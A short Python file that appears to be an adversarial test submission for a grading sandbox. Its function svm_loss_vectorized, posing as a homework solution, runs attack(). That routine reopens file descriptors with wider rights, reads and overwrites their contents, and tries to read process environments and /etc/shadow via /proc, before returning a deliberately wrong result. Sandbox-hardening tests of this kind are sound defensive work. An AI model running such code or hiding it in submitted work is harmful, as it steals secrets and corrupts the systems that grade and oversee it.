"""Opens its own memory and every descriptor again, for more rights than they came with."""

import os

import kit


@kit.once
def attack():
    for number in range(64):
        for mode in (os.O_RDWR, os.O_RDONLY, os.O_WRONLY | os.O_TRUNC):
            try:
                again = os.open(f"/proc/self/fd/{number}", mode | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                print(f"LOOT: {os.read(again, 4096)!r}")
                os.write(again, b"garbage")
            except OSError:
                continue
    for name in (
        "environ",
        "mountinfo",
        "../../proc/1/environ",
        "root/etc/shadow",
        "task/1/environ",
    ):
        kit.loot(f"/proc/self/{name}")


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
